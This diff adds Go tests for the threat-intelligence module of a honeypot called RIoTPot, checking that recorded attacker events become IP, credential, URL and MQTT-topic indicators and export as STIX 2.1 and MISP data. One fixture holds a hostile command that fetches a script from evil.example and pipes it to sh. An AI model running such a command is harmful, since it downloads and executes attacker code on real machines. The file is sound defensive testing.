@@ -0,0 +1,173 @@
+package intel
+
+import (
+	"encoding/json"
+	"testing"
+	"time"
+
+	"github.com/riotpot/internal/events"
+	"github.com/riotpot/internal/intel"
+	"github.com/riotpot/internal/store"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+var start = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
+
+// Create a record observed after the given seconds
+func record(seconds int, remote string, service string, event *events.Event) *store.Record {
+	event.Timestamp = start.Add(time.Duration(seconds) * time.Second)
+	event.RemoteAddr = remote
+	event.Service = service
+
+	r, err := store.NewRecord(event)
+	if err != nil {
+		panic(err)
+	}
+	return r
+}
+
+func records() []*store.Record {
+	return []*store.Record{
+		record(0, "10.0.0.1:5000", "SSH", events.NewEvent(nil, nil, &events.Connection{})),
+		record(1, "10.0.0.1:5000", "SSH", events.NewEvent(nil, nil, &events.Credentials{Username: "root", Password: "it's"})),
+		record(2, "10.0.0.1:5000", "SSH", events.NewEvent(nil, nil, &events.Command{Input: "cd /tmp; wget http://evil.example/bot.sh -O- | sh; curl -s 'https://evil.example/x86'"})),
+		record(3, "[2001:db8::1]:6000", "MQTT", events.NewEvent(nil, nil, &events.MQTTPacket{Type: "PUBLISH", Topic: "home/door/unlock"})),
+		record(4, "[2001:db8::1]:6000", "MQTT", events.NewEvent(nil, nil, &events.MQTTPacket{Type: "SUBSCRIBE", Topics: []string{"#"}})),
+		record(5, "[2001:db8::1]:6000", "MQTT", events.NewEvent(nil, nil, &events.Credentials{Username: "root", Password: "it's"})),
+		// Messages of other protocols do not have topics
+		record(6, "10.0.0.2:7000", "HTTP", events.NewEvent(nil, nil, &events.HTTPRequest{Method: "GET", Path: "/login"})),
+	}
+}
+
+// Test that the records are aggregated into indicators
+func TestAggregate(t *testing.T) {
+	report := intel.Aggregate(records())
+
+	type observed struct {
+		Type     intel.IndicatorType
+		Value    string
+		Count    int
+		Services []string
+	}
+
+	got := []observed{}
+	for _, i := range report.Indicators {
+		got = append(got, observed{i.Type, i.Value, i.Count, i.Services})
+	}
+
+	assert.Equal(t, []observed{
+		{intel.IPIndicator, "10.0.0.1", 3, []string{"SSH"}},
+		{intel.IPIndicator, "2001:db8::1", 3, []string{"MQTT"}},
+		{intel.IPIndicator, "10.0.0.2", 1, []string{"HTTP"}},
+		{intel.CredentialIndicator, "root:it's", 2, []string{"SSH", "MQTT"}},
+		{intel.URLIndicator, "http://evil.example/bot.sh", 1, []string{"SSH"}},
+		{intel.URLIndicator, "https://evil.example/x86", 1, []string{"SSH"}},
+		{intel.TopicIndicator, "home/door/unlock", 1, []string{"MQTT"}},
+		{intel.TopicIndicator, "#", 1, []string{"MQTT"}},
+	}, got)
+
+	credentials := report.Indicators[3]
+	assert.Equal(t, "root", credentials.Username)
+	assert.Equal(t, "it's", credentials.Password)
+	assert.Equal(t, start.Add(time.Second), credentials.FirstSeen)
+	assert.Equal(t, start.Add(5*time.Second), credentials.LastSeen)
+}
+
+// Test the STIX 2.1 bundle of the indicators
+func TestExportSTIX(t *testing.T) {
+	report := intel.Aggregate(records())
+
+	data, err := intel.Export(report, intel.STIXFormat)
+	require.NoError(t, err)
+
+	var bundle struct {
+		Type    string                   `json:"type"`
+		Objects []map[string]interface{} `json:"objects"`
+	}
+	require.NoError(t, json.Unmarshal(data, &bundle))
+	assert.Equal(t, "bundle", bundle.Type)
+
+	// The identity of RIoTPot and an indicator for each of them
+	require.Equal(t, len(report.Indicators)+1, len(bundle.Objects))
+	assert.Equal(t, "identity", bundle.Objects[0]["type"])
+
+	patterns := []string{}
+	for _, object := range bundle.Objects[1:] {
+		assert.Equal(t, "indicator", object["type"])
+		assert.Equal(t, "2.1", object["spec_version"])
+		assert.Equal(t, "stix", object["pattern_type"])
+		assert.Equal(t, bundle.Objects[0]["id"], object["created_by_ref"])
+		patterns = append(patterns, object["pattern"].(string))
+	}
+
+	assert.Equal(t, []string{
+		"[ipv4-addr:value = '10.0.0.1']",
+		"[ipv6-addr:value = '2001:db8::1']",
+		"[ipv4-addr:value = '10.0.0.2']",
+		`[user-account:account_login = 'root' AND user-account:credential = 'it\'s']`,
+		"[url:value = 'http://evil.example/bot.sh']",
+		"[url:value = 'https://evil.example/x86']",
+		"[x-riotpot-mqtt-topic:value = 'home/door/unlock']",
+		"[x-riotpot-mqtt-topic:value = '#']",
+	}, patterns)
+	assert.Equal(t, "2026-01-02T03:04:05.000Z", bundle.Objects[1]["valid_from"])
+
+	// The indicators keep their IDs between exports
+	again, err := intel.ExportSTIX(intel.Aggregate(records()))
+	require.NoError(t, err)
+	require.NoError(t, json.Unmarshal(again, &bundle))
+	assert.Contains(t, string(data), bundle.Objects[1]["id"].(string))
+}
+
+// Test the MISP event of the indicators
+func TestExportMISP(t *testing.T) {
+	data, err := intel.Export(intel.Aggregate(records()), intel.MISPFormat)
+	require.NoError(t, err)
+
+	var export struct {
+		Event struct {
+			Info      string `json:"info"`
+			Attribute []struct {
+				Type     string `json:"type"`
+				Category string `json:"category"`
+				Value    string `json:"value"`
+				ToIDS    bool   `json:"to_ids"`
+			} `json:"Attribute"`
+			Object []struct {
+				Name      string `json:"name"`
+				Attribute []struct {
+					ObjectRelation string `json:"object_relation"`
+					Value          string `json:"value"`
+				} `json:"Attribute"`
+			} `json:"Object"`
+		} `json:"Event"`
+	}
+	require.NoError(t, json.Unmarshal(data, &export))
+
+	attributes := []string{}
+	for _, a := range export.Event.Attribute {
+		attributes = append(attributes, a.Type+" "+a.Value)
+	}
+	assert.Equal(t, []string{
+		"ip-src 10.0.0.1",
+		"ip-src 2001:db8::1",
+		"ip-src 10.0.0.2",
+		"url http://evil.example/bot.sh",
+		"url https://evil.example/x86",
+		"text home/door/unlock",
+		"text #",
+	}, attributes)
+
+	require.Equal(t, 1, len(export.Event.Object))
+	credential := export.Event.Object[0]
+	assert.Equal(t, "credential", credential.Name)
+	require.Equal(t, 2, len(credential.Attribute))
+	assert.Equal(t, "username", credential.Attribute[0].ObjectRelation)
+	assert.Equal(t, "root", credential.Attribute[0].Value)
+	assert.Equal(t, "password", credential.Attribute[1].ObjectRelation)
+	assert.Equal(t, "it's", credential.Attribute[1].Value)
+
+	_, err = intel.ParseFormat("openioc")
+	assert.Error(t, err)
+}